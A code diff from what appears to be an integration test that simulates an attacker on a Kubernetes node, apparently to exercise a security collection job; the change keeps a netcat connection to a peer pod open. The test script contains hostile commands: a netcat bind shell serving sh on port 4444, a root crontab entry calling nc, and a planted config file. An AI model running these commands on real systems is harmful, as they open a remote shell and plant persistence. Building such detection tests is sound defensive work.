@@ -93,7 +93,8 @@ describe.skipIf(unavailable)('the collection Job on a real node', () => {
       'echo "nameserver 10.9.9.9" > /etc/evil.conf',
       'mkdir -p /var/spool/cron/crontabs && echo "* * * * * nc 10.244.0.250 9" > /var/spool/cron/crontabs/root',
       'nc -ll -p 4444 -e sh &',
-      `nc ${peer.status!.podIP} 8080 &`,
+      // A connection held open: nc ends when its stdin does, and a background job's is /dev/null.
+      `sleep 3600 | nc ${peer.status!.podIP} 8080 &`,
       'echo attacker ready',
       'exec sleep 3600',
     ].join('\n');
